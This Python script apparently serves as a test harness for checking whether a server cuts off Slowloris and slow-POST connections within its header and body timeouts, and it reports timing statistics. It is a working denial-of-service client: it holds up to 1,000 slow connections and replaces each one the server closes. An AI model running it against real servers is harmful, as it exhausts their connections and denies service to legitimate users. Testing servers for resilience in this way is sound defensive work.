#!/usr/bin/env python3
"""Slowloris and slow-POST clients for scripts/slow-clients.sh (asyncio, no extra packages).

Keeps `--slowloris` connections that send one header byte every `--interval` seconds and
never finish the head, and `--slow-posts` connections that send a whole head with a
Content-Length and then one body byte every `--interval` seconds. A connection the server
closes is replaced at once, so the attack stays at full strength until SIGTERM; then the
open ones are waited for (until their deadline + `--grace`), and a summary is printed:
for each kind, how long the server took from the connection's first byte to closing it
(EOF or reset), how many were within deadline + 1 s, and what the server answered.

Prints `ramped` once every connection of the first wave is open. Exits 1 if a connection
was not cut within its deadline + 1 s (or never), 0 otherwise.
"""

import argparse
import asyncio
import collections
import json
import signal
import statistics
import sys
import time

# A request head that never ends: the request line, then one header value forever.
SLOWLORIS_HEAD = b"GET / HTTP/1.1\r\nHost: slowloris\r\nX-Slow: "
BODY_LENGTH = 1_000_000


class Attack:
    """The attack's connections and what became of each."""

    def __init__(self, args):
        self.args = args
        self.stopping = asyncio.Event()
        # kind -> list of (seconds from first byte to close, or None if never, answer)
        self.results = collections.defaultdict(list)
        self.connect_errors = collections.Counter()
        self.open = collections.Counter()  # kind -> connections open now

    async def keep(self, kind, start_delay):
        """One attack slot: a connection of `kind`, replaced whenever the server cuts it."""
        await asyncio.sleep(start_delay)
        while not self.stopping.is_set():
            try:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(self.args.host, self.args.port), 10
                )
            except (OSError, asyncio.TimeoutError) as e:
                self.connect_errors[type(e).__name__] += 1
                await asyncio.sleep(0.1)
                continue
            self.open[kind] += 1
            try:
                await self.run_one(kind, reader, writer)
            finally:
                self.open[kind] -= 1
                writer.close()

    async def run_one(self, kind, reader, writer):
        """Sends slowly until the server closes; records when and with what answer."""
        if kind == "slowloris":
            pieces = iter_slowloris()
        else:
            head = (
                f"POST /upload HTTP/1.1\r\nHost: slowpost\r\n"
                f"Content-Length: {BODY_LENGTH}\r\n\r\n"
            ).encode()
            pieces = iter_slow_post(head)
        first_byte = time.monotonic()
        writer.write(next(pieces))
        closed = asyncio.ensure_future(read_until_closed(reader))
        try:
            while not closed.done():
                done, _ = await asyncio.wait({closed}, timeout=self.args.interval)
                if done:
                    break
                writer.write(next(pieces))
        except OSError:
            pass
        answer, closed_at = await closed
        self.results[kind].append((closed_at - first_byte, answer))

    async def wait_open(self, total):
        """Returns once `total` connections are open at the same time (or 30 s passed)."""
        deadline = time.monotonic() + 30
        while self.open.total() < total and time.monotonic() < deadline:
            await asyncio.sleep(0.05)


def iter_slowloris():
    """One byte at a time of a head that never ends."""
    for byte in SLOWLORIS_HEAD:
        yield bytes([byte])
    while True:
        yield b"a"


def iter_slow_post(head):
    """The whole head, then one body byte at a time."""
    yield head
    while True:
        yield b"x"


async def read_until_closed(reader):
    """Reads until EOF or reset; returns (the status line's code or what happened, when)."""
    received = b""
    try:
        while True:
            data = await reader.read(4096)
            if not data:
                break
            received += data
    except ConnectionResetError:
        if not received:
            return "reset", time.monotonic()
    closed_at = time.monotonic()
    if received.startswith(b"HTTP/1."):
        return received.split(b" ", 2)[1].decode(errors="replace"), closed_at
    return "closed without an answer", closed_at


def summarize(kind, results, deadline, still_open):
    """One kind's numbers, and whether every connection met its bound."""
    bound = deadline + 1.0
    cut = sorted(t for t, _ in results)
    within = sum(1 for t in cut if t <= bound)
    answers = collections.Counter(a for _, a in results)
    summary = {
        "kind": kind,
        "deadline_s": deadline,
        "bound_s": bound,
        "cut": len(cut),
        "within_bound": within,
        "never_cut": still_open,
        "min_s": round(cut[0], 3) if cut else None,
        "median_s": round(statistics.median(cut), 3) if cut else None,
        "max_s": round(cut[-1], 3) if cut else None,
        "answers": dict(answers),
    }
    ok = within == len(cut) and still_open == 0 and len(cut) > 0
    return summary, ok


async def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--slowloris", type=int, default=1000)
    parser.add_argument("--slow-posts", type=int, default=100)
    parser.add_argument("--interval", type=float, default=10.0, help="seconds between bytes")
    parser.add_argument("--header-timeout", type=float, required=True)
    parser.add_argument("--body-timeout", type=float, required=True)
    parser.add_argument("--ramp", type=float, default=1.0, help="seconds to open the first wave")
    parser.add_argument("--grace", type=float, default=5.0)
    parser.add_argument("--json", help="also write the summary here")
    args = parser.parse_args()

    attack = Attack(args)
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, attack.stopping.set)
    loop.add_signal_handler(signal.SIGINT, attack.stopping.set)
    slots = [("slowloris", i) for i in range(args.slowloris)]
    slots += [("slow POST", i) for i in range(args.slow_posts)]
    tasks = [
        asyncio.ensure_future(attack.keep(kind, args.ramp * n / max(len(slots), 1)))
        for n, (kind, _) in enumerate(slots)
    ]
    await attack.wait_open(len(slots))
    print(f"ramped: {attack.open.total()} connections open", flush=True)
    await attack.stopping.wait()

    # No new connections now; the open ones have until their deadline + grace.
    longest = max(args.header_timeout, args.body_timeout) + args.grace
    _, pending = await asyncio.wait(tasks, timeout=longest)
    still_open = dict(attack.open)
    for task in pending:
        task.cancel()

    deadlines = {"slowloris": args.header_timeout, "slow POST": args.body_timeout}
    counts = {"slowloris": args.slowloris, "slow POST": args.slow_posts}
    summaries, all_ok = [], True
    for kind, deadline in deadlines.items():
        if counts[kind] == 0:
            continue
        never = still_open.get(kind, 0)
        summary, ok = summarize(kind, attack.results[kind], deadline, never)
        summaries.append(summary)
        all_ok &= ok
        print(
            f"{kind}: {summary['cut']} connections cut, {summary['within_bound']} within "
            f"deadline + 1 s ({summary['bound_s']:g} s), {never} never cut; "
            f"first byte to close min {summary['min_s']} s, median {summary['median_s']} s, "
            f"max {summary['max_s']} s; answers {summary['answers']}"
        )
    if attack.connect_errors:
        print(f"connect errors: {dict(attack.connect_errors)}")
    if args.json:
        with open(args.json, "w") as f:
            json.dump({"kinds": summaries, "connect_errors": attack.connect_errors}, f)
    return 0 if all_ok else 1


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
